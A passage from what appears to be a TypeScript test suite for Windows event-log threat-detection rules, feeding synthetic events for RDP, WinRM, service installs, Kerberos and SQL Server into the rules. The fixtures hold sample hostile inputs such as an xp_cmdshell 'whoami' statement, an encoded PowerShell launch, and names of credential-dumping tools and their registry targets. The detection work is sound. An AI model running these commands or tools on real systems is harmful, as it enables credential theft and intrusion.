    expect(titlesOf(svc(3, 'C:\\Windows\\System32\\drivers\\PROCEXP152.SYS', 'kernel mode driver'))).not.toContain(DRV);
    expect(titlesOf(svc(4, 'C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe', 'user mode service'))).not.toContain(DRV);
    const s4697 = (t: number, type: string): Ev => sec(t, 4697, { SubjectUserName: 'bob', ServiceName: 'rtcore', ServiceFileName: '\\??\\C:\\Users\\bob\\Desktop\\RTCore64.sys', ServiceType: type, ServiceStartType: '3', ServiceAccount: '' });
    expect(hits([s4697(5, '0x1')]).get(`${DRV} (4697)`)?.level).toBe('high');
    expect(titlesOf(s4697(6, '0x10'))).not.toContain(`${DRV} (4697)`);
  });

  it('defences switched off for good (7040 to disabled, medium) and Code Integrity refusals (low); other services and start types are not', () => {
    const OFF = 'Security Or Logging Service Set To Disabled (System 7040)';
    const st = (t: number, name: string, key: string, to: string): Ev => win(t, 'System', 'Service Control Manager', 7040, { param1: name, param2: 'auto start', param3: to, param4: key });
    expect(hits([st(1, 'Windows Event Log', 'EventLog', 'disabled')]).get(OFF)).toEqual({ level: 'medium', tactics: ['defense-impairment'] });
    expect(titlesOf(st(2, 'Microsoft Defender Antivirus Service', 'WinDefend', 'disabled'))).toContain(OFF);
    expect(titlesOf(st(3, 'Windows Event Log', 'EventLog', 'demand start'))).not.toContain(OFF);
    expect(titlesOf(st(4, 'Print Spooler', 'Spooler', 'disabled'))).not.toContain(OFF);
    const CI = 'Code Integrity Blocked Or Flagged An Unsigned Image (3033/3034/3076/3077/3089)';
    const ci = (t: number, id: number): Ev => win(t, 'Microsoft-Windows-CodeIntegrity/Operational', 'Microsoft-Windows-CodeIntegrity', id, { 'File Name': '\\Device\\HarddiskVolume2\\Users\\bob\\x.dll', 'Process Name': '\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe', Status: '0xc0000428' });
    expect(hits([ci(5, 3033)]).get(CI)).toEqual({ level: 'low', tactics: ['defense-impairment'] });
    expect(titlesOf(ci(6, 3004))).not.toContain(CI);
  });

  it('unmanaged PowerShell in the Windows PowerShell log (400 HostApplication, medium) and PowerShell/Operational 53504 AppDomain (low); PowerShell hosts are not', () => {
    const HOST = 'PowerShell Engine Started In A Program That Is Not A PowerShell Host (classic 400)';
    const start = (t: number, host: string): Ev =>
      win(t, 'Windows PowerShell', 'PowerShell', 400, { Data: ['Available', 'None', `\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n\tSequenceNumber=13\r\n\r\n\tHostName=Default Host\r\n\tHostVersion=5.1\r\n\tHostId=4a4b4c4d-0000-4000-8000-000000000001\r\n\tHostApplication=${host}\r\n\tEngineVersion=5.1\r\n\tRunspaceId=x\r\n\tPipelineId=\r\n\tCommandName=\r\n\tCommandType=\r\n\tScriptName=\r\n\tCommandPath=\r\n\tCommandLine=`] }, 'WS01');
    expect(hits([start(1, 'C:\\Windows\\System32\\rundll32.exe')]).get(HOST)).toEqual({ level: 'medium', tactics: ['execution', 'privilege-escalation', 'stealth'] });
    expect(titlesOf(start(2, 'C:\\Users\\bob\\Downloads\\payload.exe'))).toContain(HOST);
    expect(titlesOf(start(3, 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Users\\bob\\x.csproj'))).toContain(HOST);
    for (const ok of ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop', 'powershell -enc AAAA', '"C:\\Program Files\\PowerShell\\7\\pwsh.exe"', 'C:\\Windows\\system32\\WindowsPowerShell\\v1.0\\PowerShell_ISE.exe', 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding', 'C:\\Program Files\\Vendor\\agent.exe', 'C:\\Windows\\system32\\dsac.exe', ''])
      expect(titlesOf(start(4, ok)), ok).not.toContain(HOST);
    const IPC = 'PowerShell IPC Listener Started In A Named .NET AppDomain (53504)';
    const ipc = (t: number, domain: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 53504, { param1: '5432', param2: domain }, 'WS01');
    expect(hits([ipc(5, 'GruntHTTP.exe')]).get(IPC)).toEqual({ level: 'low', tactics: ['execution'] });
    expect(titlesOf(ipc(6, 'DefaultAppDomain'))).toEqual([]);
    expect(titlesOf(ipc(7, 'DscPsPluginWkr_AppDomain'))).toEqual([]);
  });

  it('Windows Installer packages from download or temporary folders (MsiInstaller 1040/1042, low), a primary group set to a privileged group (4738, medium), remote event log access as lateral movement', () => {
    const MSI = 'Windows Installer Package Run From A Download, Temporary Or Public Folder';
    const msi = (t: number, id: number, file: string): Ev => win(t, 'Application', 'MsiInstaller', id, { Data: [file, '3128'] }, 'WS01');
    expect(hits([msi(1, 1040, 'C:\\Users\\bob\\AppData\\Local\\Temp\\setup.msi')]).get(MSI)).toEqual({ level: 'low', tactics: ['execution', 'stealth'] });
    expect(titlesOf(msi(2, 1042, 'C:\\Users\\bob\\Downloads\\x.msi'))).toContain(MSI);
    expect(titlesOf(msi(3, 1040, 'C:\\Windows\\Installer\\1a2b3c.msi'))).not.toContain(MSI);
    const PG = 'Primary Group Of A User Set To A Privileged Group (4738)';
    const chg = (t: number, group: string): Ev => sec(t, 4738, { SubjectUserName: 'bob', TargetUserName: 'alice', TargetSid: 'S-1-5-21-1-2-3-1203', PrimaryGroupId: group, SidHistory: '-' });
    expect(hits([chg(4, '512')]).get(PG)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation'] });
    expect(titlesOf(chg(5, '513'))).not.toContain(PG);
    expect(titlesOf(chg(6, '-'))).not.toContain(PG);
    const pipe = sec(7, 5145, { SubjectUserName: 'bob', ShareName: '\\\\*\\IPC$', RelativeTargetName: 'eventlog', IpAddress: '10.0.0.30' });
    expect(hits([pipe]).get('Event Log Service Reached Over The Network')).toEqual({ level: 'medium', tactics: ['defense-impairment', 'lateral-movement'] });
  });

  it('the RDP listener receiving a connection (RemoteConnectionManager 261, informational) and the print spooler failing to load a plug-in (PrintService 808, low); other events of those channels are not', () => {
    const rcm = (t: number, id: number): Ev => win(t, 'Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational', 'Microsoft-Windows-TerminalServices-RemoteConnectionManager', id, { listenerName: 'RDP-Tcp' }, 'WS01');
    expect(hits([rcm(1, 261)]).get('RDP Listener Received A Connection (RemoteConnectionManager 261)')).toEqual({ level: 'informational', tactics: ['lateral-movement'] });
    expect(titlesOf(rcm(2, 258))).toEqual([]);
    const spool = (t: number, id: number): Ev => win(t, 'Microsoft-Windows-PrintService/Admin', 'Microsoft-Windows-PrintService', id, { param1: 'C:\\Windows\\system32\\spool\\DRIVERS\\x64\\3\\New\\payload.dll', param2: '0x7e' }, 'WS01');
    expect(hits([spool(3, 808)]).get('Print Spooler Failed To Load A Plug-in Module (PrintService 808)')).toEqual({ level: 'low', tactics: ['privilege-escalation', 'lateral-movement'] });
    expect(titlesOf(spool(4, 372))).toEqual([]);
  });

  it('privileges used from the Windows temporary folder count as outside Windows; SAM and SECURITY registry keys opened by other programs (medium); drivers from other folders (medium)', () => {
    const DEBUG = 'Debug Privilege Used By A Program Outside Windows';
    const use = (t: number, program: string): Ev => sec(t, 4673, { SubjectUserName: 'bob', ObjectServer: 'Security', Service: '-', PrivilegeList: 'SeDebugPrivilege', ProcessName: program });
    expect(titlesOf(use(1, 'C:\\Windows\\Temp\\m.exe'))).toContain(DEBUG);
    expect(titlesOf(use(2, 'C:\\Windows\\System32\\taskmgr.exe'))).not.toContain(DEBUG);
    const KEY = 'Handle To The SAM Or SECURITY Registry Key Requested By A Program (4656/4663)';
    const key = (t: number, name: string, program: string): Ev => sec(t, 4663, { SubjectUserName: 'bob', ObjectServer: 'Security', ObjectType: 'Key', ObjectName: name, AccessMask: '0x20019', ProcessName: program });
    expect(hits([key(3, '\\REGISTRY\\MACHINE\\SECURITY\\Policy\\Secrets', 'C:\\Windows\\System32\\reg.exe')]).get(KEY)).toEqual({ level: 'medium', tactics: ['credential-access'] });
    expect(titlesOf(key(4, '\\REGISTRY\\MACHINE\\SAM\\SAM\\Domains\\Account', 'C:\\Windows\\System32\\lsass.exe'))).not.toContain(KEY);
    expect(titlesOf(key(5, '\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft', 'C:\\Windows\\System32\\reg.exe'))).not.toContain(KEY);
    const OUT = 'Kernel Driver Service Installed From Outside The Windows And Program Files Folders';
    const drv = (t: number, image: string): Ev => win(t, 'System', 'Service Control Manager', 7045, { ServiceName: 'd', ImagePath: image, ServiceType: 'kernel mode driver', StartType: 'demand start', AccountName: '' }, 'WS01');
    expect(hits([drv(6, 'C:\\Tools\\x64\\mimidrv.sys')]).get(OUT)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation'] });
    for (const image of ['\\SystemRoot\\System32\\drivers\\x.sys', 'System32\\drivers\\x.sys', '\\??\\C:\\Program Files\\Vendor\\x.sys', 'C:/Program Files\\Vendor\\bin\\npf.sys', 'C:\\Users\\bob\\AppData\\Local\\Temp\\x.sys'])
      expect(titlesOf(drv(7, image)), image).not.toContain(OUT);
  });

  it('tasks registered by LOCAL SERVICE or NETWORK SERVICE (medium) and IPC$ pipes over loopback SMB (low); SYSTEM tasks and pipes from other hosts are not', () => {
    const SVC = 'Scheduled Task Created By LOCAL SERVICE Or NETWORK SERVICE (4698)';
    const task = (t: number, sid: string): Ev => sec(t, 4698, { SubjectUserSid: sid, SubjectUserName: 'x', SubjectLogonId: '0x3e5', TaskName: '\\t', TaskContent: '<Task><Actions><Exec><Command>C:\\Windows\\System32\\notepad.exe</Command></Exec></Actions></Task>' });
    expect(hits([task(1, 'S-1-5-19')]).get(SVC)).toEqual({ level: 'medium', tactics: ['execution', 'persistence', 'privilege-escalation', 'stealth'] });
    expect(titlesOf(task(2, 'S-1-5-18'))).not.toContain(SVC);
    // The Software Protection service (NETWORK SERVICE) updates its own restart task on every host.
    expect(titlesOf(sec(3, 4702, { SubjectUserSid: 'S-1-5-20', SubjectUserName: 'DC01$', TaskName: '\\Microsoft\\Windows\\SoftwareProtectionPlatform\\SvcRestartTask', TaskContentNew: '<Task/>' }))).not.toContain(SVC);
    const LOOP = 'Named Pipe Opened Over SMB From The Loopback Address (5145)';
    const pipe = (t: number, ip: string, user = 'svc_app'): Ev => sec(t, 5145, { SubjectUserName: user, ShareName: '\\\\*\\IPC$', RelativeTargetName: 'srvsvc', IpAddress: ip, AccessMask: '0x3' });
    expect(hits([pipe(3, '::1')]).get(LOOP)).toEqual({ level: 'low', tactics: ['privilege-escalation', 'stealth'] });
    expect(titlesOf(pipe(4, '10.0.0.30'))).not.toContain(LOOP);
    expect(titlesOf(pipe(5, '127.0.0.1', 'WS01$'))).not.toContain(LOOP);
  });

  it('RDP from the loopback address in LocalSessionManager (21/22/25) and 4778 (high); console sessions and other addresses are not', () => {
    const LSM = 'RDP Session Logon From The Loopback Address (LocalSessionManager 21/22/25)';
    const lsm = (t: number, address: string): Ev => win(t, 'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational', 'Microsoft-Windows-TerminalServices-LocalSessionManager', 21, { User: 'CORP\\bob', SessionID: '3', Address: address });
    expect(hits([lsm(1, '127.0.0.1')]).get(LSM)).toEqual({ level: 'high', tactics: ['lateral-movement', 'command-and-control'] });
    expect(titlesOf(lsm(2, 'LOCAL'))).not.toContain(LSM);
    expect(titlesOf(lsm(3, '10.0.0.30'))).not.toContain(LSM);
    const RC = 'RDP Session Reconnected From The Loopback Address (4778)';
    const rc = (t: number, address: string): Ev => sec(t, 4778, { AccountName: 'bob', AccountDomain: 'CORP', LogonID: '0x5a1b2', SessionName: 'RDP-Tcp#3', ClientName: 'X', ClientAddress: address });
    expect(hits([rc(4, '::1')]).get(RC)?.level).toBe('high');
    expect(titlesOf(rc(5, '10.0.0.30'))).not.toContain(RC);
  });

  it('Kerberos user enumeration: TGTs for ten unknown names from one address in five minutes (medium); nine names, or one name retried, are not', () => {
    const ENUM = 'Kerberos TGT Requests For Many Unknown Accounts From One Address';
    const tgt = (t: number, user: string, ip = '::ffff:10.0.0.30'): Ev => sec(t, 4768, { TargetUserName: user, ServiceName: 'krbtgt/CORP', Status: '0x6', PreAuthType: '-', IpAddress: ip });
    const h = hits(Array.from({ length: 12 }, (_, i) => tgt(i * 5, `guess${i}`)));
    expect(h.get(ENUM)).toEqual({ level: 'medium', tactics: ['credential-access', 'discovery'] });
    expect(h.get('Kerberos TGT Requested For An Unknown Account (4768 0x6)')?.level).toBe('informational');
    expect(hits(Array.from({ length: 9 }, (_, i) => tgt(i * 5, `guess${i}`))).has(ENUM)).toBe(false);
    expect(hits(Array.from({ length: 12 }, (_, i) => tgt(i * 5, 'olduser'))).has(ENUM)).toBe(false);
    expect(titlesOf(sec(100, 4768, { TargetUserName: 'bob', ServiceName: 'krbtgt/CORP', Status: '0x0', PreAuthType: '2', TicketEncryptionType: '0x12', IpAddress: '::ffff:10.0.0.30' }))).toEqual([]);
  });

  it('SQL Server: xp_cmdshell and OLE automation executed (audit 33205, medium), the sp_configure statement is not; the backup catalog deleted (Application 524, medium)', () => {
    const EXEC = 'SQL Server Procedure That Runs Operating System Commands Executed (audit 33205)';
    const audit = (t: number, text: string): Ev => win(t, 'Application', 'MSSQLSERVER', 33205, { Data: [text] });
    expect(hits([audit(1, "action_id:EX\nclass_type:X \nobject_name:xp_cmdshell\nstatement:EXEC xp_cmdshell 'whoami'\n")]).get(EXEC)).toEqual({ level: 'medium', tactics: ['execution', 'persistence'] });
    expect(titlesOf(audit(2, "action_id:EX\nclass_type:P \nobject_name:sp_configure\nstatement:EXEC sp_configure 'xp_cmdshell', 1\n"))).not.toContain(EXEC);
    expect(titlesOf(audit(3, "action_id:SL\nclass_type:U \nstatement:SELECT name FROM sys.objects WHERE name = 'xp_cmdshell'\n"))).not.toContain(EXEC);
    const CAT = 'Windows Backup Catalog Deleted (Application 524)';
    expect(hits([win(4, 'Application', 'Microsoft-Windows-Backup', 524, {})]).get(CAT)).toEqual({ level: 'medium', tactics: ['impact'] });
    expect(titlesOf(win(5, 'Application', 'Microsoft-Windows-Backup', 4, {}))).not.toContain(CAT);
  });

  it('audit and Kerberos policy: per-user audit policy and the audit policy descriptor (medium), CrashOnAuditFail (low), the Kerberos policy changed by a user (medium), not by a machine', () => {
    expect(hits([sec(1, 4912, { SubjectUserName: 'alice', TargetUserSid: 'S-1-5-21-1-2-3-1104', CategoryId: '%%8272', AuditPolicyChanges: '%%8451' })]).get('Per-User Audit Policy Changed')).toEqual({ level: 'medium', tactics: ['defense-impairment'] });
    expect(hits([sec(2, 4715, { SubjectUserName: 'alice', OldSd: 'D:(A;;0x1;;;BA)', NewSd: 'D:(A;;0x1;;;WD)' })]).get('Audit Policy Security Descriptor Changed')?.level).toBe('medium');
    expect(hits([sec(3, 4906, { CrashOnAuditFailValue: 0 })]).get('CrashOnAuditFail Setting Changed Or Cleared')?.level).toBe('low');
    const KERB = 'Kerberos Policy Changed';
    expect(hits([sec(4, 4713, { SubjectUserName: 'alice', KerberosPolicyChange: 'MaxTicketAge: 0xa -> 0x2710' })]).get(KERB)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'stealth', 'credential-access'] });
    expect(titlesOf(sec(5, 4713, { SubjectUserName: 'DC01$', KerberosPolicyChange: 'MaxTicketAge: 0xa -> 0xa' }))).not.toContain(KERB);
    // The system-wide audit policy (4719) is another rule's.
    expect(titlesOf(sec(6, 4719, { SubjectUserName: 'alice', CategoryId: '%%8274', AuditPolicyChanges: '%%8448' }))).not.toContain('Per-User Audit Policy Changed');
  });

  it('directory and trust events of Appendix L: SID filtering (low), group type (low), AdminSDHolder resets (informational), forest trust namespaces (medium), CA rows deleted (low), RPC integrity (low)', () => {
    expect(hits([sec(1, 4675, { TargetUserName: 'admin', TargetDomainName: 'CORP2', TdoSid: 'S-1-5-21-9-9-9', SidList: '%{S-1-5-21-1-2-3-519}' })]).get('SIDs Filtered From A Logon Across A Trust')).toEqual({ level: 'low', tactics: ['privilege-escalation', 'stealth'] });
    expect(hits([sec(2, 4764, { SubjectUserName: 'alice', TargetUserName: 'Helpdesk' })]).get('Group Type Changed')).toEqual({ level: 'low', tactics: ['persistence', 'privilege-escalation'] });
    expect(hits([sec(3, 4780, { SubjectUserName: 'DC01$', TargetUserName: 'bob' })]).get('Permissions Reset On Members Of Administrative Groups')?.level).toBe('informational');
    expect(hits([sec(4, 4865, { ForestRoot: 'corp2.example', TopLevelName: 'other.example' })]).get('Trusted Forest Information Changed')).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'stealth'] });
    expect(hits([sec(5, 4896, { TableId: 'Request', Rows: 200 })]).get('Certificate Services Database Rows Deleted')).toEqual({ level: 'low', tactics: ['stealth'] });
    expect(hits([sec(6, 4816, { RemoteName: '10.0.0.57', RpcCallStatus: '0x6c6' })]).get('RPC Integrity Violation Detected')).toEqual({ level: 'low', tactics: ['credential-access', 'collection'] });
    // A member added to a group is the group-member rules', not the group-type rule.
    expect(titlesOf(sec(7, 4728, { SubjectUserName: 'alice', TargetUserName: 'Helpdesk', MemberSid: 'S-1-5-21-1-2-3-1190' }))).not.toContain('Group Type Changed');
  });

  it('RDP traces on both sides: client connect/domain/disconnect (RDPClient 1026/1027, low), server connection ended (RdpCoreTs 102/103), logoff and disconnect reason (LSM 23/40), unlock logons from another address (4624 type 7), all informational; other ids and local unlocks are not', () => {
    const LM = ['lateral-movement'];
    const rdpc = (t: number, id: number, data: JsonRecord): Ev => win(t, 'Microsoft-Windows-TerminalServices-RDPClient/Operational', 'Microsoft-Windows-TerminalServices-ClientActiveXCore', id, data, 'WS01');
    const CLIENT = 'Outbound RDP Connection By The RDP Client';
    expect(hits([rdpc(1, 1027, { DomainName: 'CORP', SessionID: '3' })]).get(CLIENT)).toEqual({ level: 'low', tactics: LM });
    expect(titlesOf(rdpc(2, 1026, { Name: 'Disconnect Reason', Value: '2', CustomLevel: 'Info' }))).toContain(CLIENT);
    expect(titlesOf(rdpc(3, 1105, { Name: 'x', Value: '1', CustomLevel: 'Info' }))).toEqual([]);
    const core = (t: number, id: number, data: JsonRecord): Ev => win(t, 'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational', 'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS', id, data);
    const ENDED = 'RDP Connection Ended (RdpCoreTs 102/103)';
    expect(hits([core(4, 102, {})]).get(ENDED)).toEqual({ level: 'informational', tactics: LM });
    expect(titlesOf(core(5, 103, { ReasonCode: '14' }))).toEqual([ENDED]);
    expect(titlesOf(core(6, 148, { ChannelName: 'rdpcmd', TunnelID: '0' }))).toEqual([]);
    const lsm = (t: number, id: number, data: JsonRecord): Ev => win(t, 'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational', 'Microsoft-Windows-TerminalServices-LocalSessionManager', id, data);
    const OFF = 'RDP Session Logoff Or Disconnect Reason (LSM 23/40)';
    expect(hits([lsm(7, 23, { User: 'CORP\\bob', SessionID: '3' })]).get(OFF)).toEqual({ level: 'informational', tactics: LM });
    expect(titlesOf(lsm(8, 40, { Session: '3', Reason: '5' }))).toEqual([OFF]);
    expect(titlesOf(lsm(9, 41, { User: 'CORP\\bob', SessionID: '3' }))).toEqual([]);
    const UNLOCK = 'Unlock Or Reconnection Logon From Another Address (4624 Type 7)';
    const unlock = (t: number, ip: string | null): Ev => sec(t, 4624, { TargetUserName: 'bob', TargetDomainName: 'CORP', LogonType: '7', ...(ip === null ? {} : { IpAddress: ip }), LogonProcessName: 'User32 ', AuthenticationPackageName: 'Negotiate' });
    expect(hits([unlock(10, '10.0.0.30')]).get(UNLOCK)).toEqual({ level: 'informational', tactics: LM });
    for (const ip of ['-', '127.0.0.1', '::1', null]) expect(titlesOf(unlock(11, ip))).not.toContain(UNLOCK);
    expect(titlesOf(sec(12, 4624, { TargetUserName: 'bob', LogonType: '2', IpAddress: '10.0.0.30' }))).not.toContain(UNLOCK);
  });

  it('DCOM 10016 under the provider name of older exports (DCOM) too; a 10016 of another provider is not the rule', () => {
    const DCOM = 'DCOM Permission Error For A Remote Activation';
    const ev = (t: number, provider: string): Ev => win(t, 'System', provider, 10016, { param1: 'application-specific', param2: 'Local', param3: 'Activation', param4: '{C2F03A33-21F5-47FA-B4BB-156362A2F239}' });
    expect(hits([ev(1, 'DCOM')]).get(DCOM)).toEqual({ level: 'low', tactics: ['lateral-movement'] });
    expect(titlesOf(ev(2, 'Microsoft-Windows-DistributedCOM'))).toContain(DCOM);
    expect(titlesOf(ev(3, 'Vendor-Agent'))).not.toContain(DCOM);
  });

  it('DCShadow clean-up: a server or nTDSDSA object deleted from the sites container (5141, medium); other deleted objects are not', () => {
    const DEL = 'Domain Controller Object Removed From The Configuration Partition';
    const del = (t: number, objectClass: string): Ev => sec(t, 5141, { SubjectUserName: 'alice', ObjectDN: 'CN=NTDS Settings,CN=WS07,CN=Servers,CN=Default-First-Site-Name,CN=Sites,CN=Configuration,DC=corp,DC=example', ObjectClass: objectClass, TreeDelete: '%%14679' });
    expect(hits([del(1, 'nTDSDSA')]).get(DEL)).toEqual({ level: 'medium', tactics: ['defense-impairment'] });
    expect(titlesOf(del(2, 'user'))).not.toContain(DEL);
  });

  it('Windows Firewall in the Security log: service or driver stopped (medium), policy failures (low); a firewall rule change is not these rules', () => {
    expect(hits([sec(1, 5025, {})]).get('Windows Firewall Service Or Driver Stopped')).toEqual({ level: 'medium', tactics: ['defense-impairment'] });
    expect(hits([sec(2, 5030, { ErrorCode: 2 })]).get('Windows Firewall Could Not Apply Its Policy')?.level).toBe('low');
    const h = [...hits([sec(3, 4946, { ProfileChanged: 'All', RuleName: 'x' })]).keys()];
    expect(h).not.toContain('Windows Firewall Service Or Driver Stopped');
    expect(h).not.toContain('Windows Firewall Could Not Apply Its Policy');
  });

  it('remote shells of the Impacket kind: a command output file over ADMIN$ or C$ (high); other files on the share are not', () => {
    const OUT = 'Remote Command Output File On An Administrative Share';
    const share = (t: number, name: string, rel: string): Ev =>
      sec(t, 5145, { SubjectUserName: 'alice', IpAddress: '10.0.0.57', ShareName: name, ShareLocalPath: '\\??\\C:\\Windows', RelativeTargetName: rel, AccessList: '%%1537\n%%1541\n%%4416\n' });
    expect(hits([share(1, '\\\\*\\ADMIN$', '__1700000000.1234567')]).get(OUT)).toEqual({ level: 'high', tactics: ['execution', 'lateral-movement'] });
    expect(titlesOf(share(2, '\\\\*\\C$', '__output'))).toContain(OUT);
    expect(titlesOf(share(3, '\\\\*\\ADMIN$', 'Temp\\__PSScriptPolicyTest_x.ps1'))).not.toContain(OUT);
    expect(titlesOf(share(4, '\\\\*\\Data', '__1700000000.1234567'))).not.toContain(OUT);
  });

  it('remote execution and credential dumping tool services: 7036 and 4674 of PSEXESVC-like services (high), dumping tool services in 7045/7036/4697 (high, credential access); other services are not', () => {
    const scm = (t: number, id: number, data: JsonRecord): Ev => win(t, 'System', 'Service Control Manager', id, data);
    const STATE = 'Remote Execution Tool Service Started Or Stopped';
    expect(hits([scm(1, 7036, { param1: 'PSEXESVC', param2: 'running' })]).get(STATE)).toEqual({ level: 'high', tactics: ['execution', 'lateral-movement'] });
    expect(titlesOf(scm(2, 7036, { param1: 'Print Spooler', param2: 'running' }))).not.toContain(STATE);
    const HANDLE = 'Remote Execution Tool Service Opened In The Service Control Manager';
    expect(hits([sec(3, 4674, { SubjectUserName: 'alice', ObjectServer: 'SC Manager', ObjectType: 'SERVICE OBJECT', ObjectName: 'PSEXESVC', PrivilegeList: 'SeSecurityPrivilege' })]).get(HANDLE)?.level).toBe('high');
    expect(titlesOf(sec(4, 4674, { SubjectUserName: 'alice', ObjectServer: 'SC Manager', ObjectType: 'SERVICE OBJECT', ObjectName: 'Spooler', PrivilegeList: 'SeSecurityPrivilege' }))).not.toContain(HANDLE);
    const DUMP = 'Credential Dumping Tool Service Installed Or Run';
    expect(hits([scm(5, 7036, { param1: 'PWDumpX Service', param2: 'running' })]).get(DUMP)).toEqual({ level: 'high', tactics: ['execution', 'credential-access'] });
    expect(titlesOf(scm(6, 7045, { ServiceName: 'WCESERVICE', ImagePath: '"C:\\Users\\alice\\wce.exe" -S', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' }))).toContain(DUMP);
    expect(titlesOf(scm(7, 7045, { ServiceName: 'Dump Uploader', ImagePath: 'C:\\Program Files\\Crash\\upload.exe', ServiceType: 'user mode service', StartType: 'auto start', AccountName: 'LocalSystem' }))).not.toContain(DUMP);
    expect(hits([sec(8, 4697, { SubjectUserName: 'alice', ServiceName: 'gsecdump', ServiceFileName: 'C:\\Windows\\Temp\\gsecdump.exe', ServiceType: '0x10', ServiceStartType: 3 })]).get('Credential Dumping Tool Service Installed (Security)')?.level).toBe('high');
  });

  it('a service whose program is on another host\'s share (7045, medium); the host\'s own loopback path and local paths are not this rule', () => {
    const UNC = 'Service Installed With A Program On Another Host';
    const svc = (t: number, image: string): Ev => win(t, 'System', 'Service Control Manager', 7045, { ServiceName: 'upd', ImagePath: image, ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' });
    expect(hits([svc(1, '\\\\10.0.0.57\\share\\svc.exe')]).get(UNC)).toEqual({ level: 'medium', tactics: ['execution', 'persistence', 'privilege-escalation', 'lateral-movement'] });
    expect(titlesOf(svc(2, '"\\\\fileserver\\tools\\agent.exe" -service'))).toContain(UNC);
    expect(titlesOf(svc(3, '\\\\127.0.0.1\\ADMIN$\\svc.exe'))).not.toContain(UNC);
    expect(titlesOf(svc(4, '\\\\?\\C:\\Program Files\\x\\svc.exe'))).not.toContain(UNC);
    expect(titlesOf(svc(5, 'C:\\Windows\\System32\\svchost.exe -k netsvcs'))).not.toContain(UNC);
  });

  it('inbound connections accepted by programs in user or temporary folders (WFP 5156, low); outbound ones and programs elsewhere are not', () => {
    const IN = 'Inbound Connection Accepted By A Program In A User Or Temporary Folder';
    const wfp = (t: number, app: string, direction: string): Ev =>
      sec(t, 5156, { ProcessID: 4412, Application: app, Direction: direction, SourceAddress: '10.0.0.12', SourcePort: '8080', DestAddress: '10.0.0.57', DestPort: '50100', Protocol: 6 });
    expect(hits([wfp(1, '\\device\\harddiskvolume2\\users\\alice\\appdata\\local\\temp\\relay.exe', '%%14592')]).get(IN)).toEqual({ level: 'low', tactics: ['command-and-control'] });
    expect(titlesOf(wfp(2, '\\device\\harddiskvolume2\\users\\alice\\appdata\\local\\temp\\relay.exe', '%%14593'))).not.toContain(IN);
    expect(titlesOf(wfp(3, '\\device\\harddiskvolume2\\program files\\app\\server.exe', '%%14592'))).not.toContain(IN);
  });

  it('LSASS crashes (Application Error 1000, WER 1001; medium, credential access); another program crashing is not', () => {
    const LSASS = 'LSASS Crashed';
    expect(hits([win(1, 'Application', 'Application Error', 1000, { Data: ['lsass.exe', '10.0.19041.1', 'ntdll.dll', 'c0000005'] })]).get(LSASS)).toEqual({ level: 'medium', tactics: ['credential-access'] });
    expect(titlesOf(win(2, 'Application', 'Windows Error Reporting', 1001, { Data: ['0', '5', 'APPCRASH', 'Not available', '0', 'lsass.exe'] }))).toContain(LSASS);
    expect(titlesOf(win(3, 'Application', 'Application Error', 1000, { Data: ['notepad.exe', '10.0', 'ntdll.dll', 'c0000005'] }))).not.toContain(LSASS);
  });

  it('Defender: remediation failed (1008/1118/1119, high), engine failure (5008, informational); a successful action is not the failure rule', () => {
    const def = (t: number, id: number): Ev => win(t, 'Microsoft-Windows-Windows Defender/Operational', 'Microsoft-Windows-Windows Defender', id, { 'Threat Name': 'Trojan:Win32/Meterpreter' });
    const FAIL = 'Microsoft Defender Could Not Remediate A Threat';
    expect(hits([def(1, 1118)]).get(FAIL)).toEqual({ level: 'high', tactics: ['execution', 'defense-impairment'] });
    expect(titlesOf(def(2, 1117))).not.toContain(FAIL);
    expect(hits([def(3, 5008)]).get('Microsoft Defender Engine Failed')?.level).toBe('informational');
  });

  it('Code Integrity: kernel modules failing integrity checks (3001-3004, 3010, 3023; low); an ordinary Code Integrity event is not', () => {
    const KM = 'Kernel Module Or Driver Failed Integrity Checks';
    const ci = (t: number, id: number): Ev => win(t, 'Microsoft-Windows-CodeIntegrity/Operational', 'Microsoft-Windows-CodeIntegrity', id, { FileNameBuffer: '\\Device\\HarddiskVolume2\\Windows\\System32\\drivers\\x.sys', ProcessNameBuffer: 'System' });
    expect(hits([ci(1, 3004)]).get(KM)).toEqual({ level: 'low', tactics: ['stealth', 'defense-impairment'] });
    expect(titlesOf(ci(2, 3099))).not.toContain(KM);
  });

  it('WinRM: shell and command requests processed on this host (81, low), requests sent to another host (80, low); local requests and other operations are not', () => {
    const wr = (t: number, id: number, data: JsonRecord): Ev => win(t, 'Microsoft-Windows-WinRM/Operational', 'Microsoft-Windows-WinRM', id, data);
    const SHELL = 'WinRM Remote Shell Request Processed';
    expect(hits([wr(1, 81, { operationName: 'CreateShell' })]).get(SHELL)).toEqual({ level: 'low', tactics: ['lateral-movement'] });
    expect(titlesOf(wr(2, 81, { operationName: 'Enumeration' }))).not.toContain(SHELL);
    const OUT = 'WinRM Request Sent To Another Host';
    expect(hits([wr(3, 80, { operationName: 'Enumeration', destination: 'srv02.corp.example:5985' })]).get(OUT)).toEqual({ level: 'low', tactics: ['lateral-movement'] });
    expect(titlesOf(wr(4, 80, { operationName: 'Get', destination: 'localhost:47001' }))).not.toContain(OUT);
  });

  it('RDP hijacking and shadowing: a session disconnected by another session (LSM 39, low), shadow sessions (RCM 20503-20508, low); a session disconnecting itself is not', () => {
    const lsm = (t: number, target: number, source: number): Ev =>
      win(t, 'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational', 'Microsoft-Windows-TerminalServices-LocalSessionManager', 39, { TargetSession: target, Source: source });
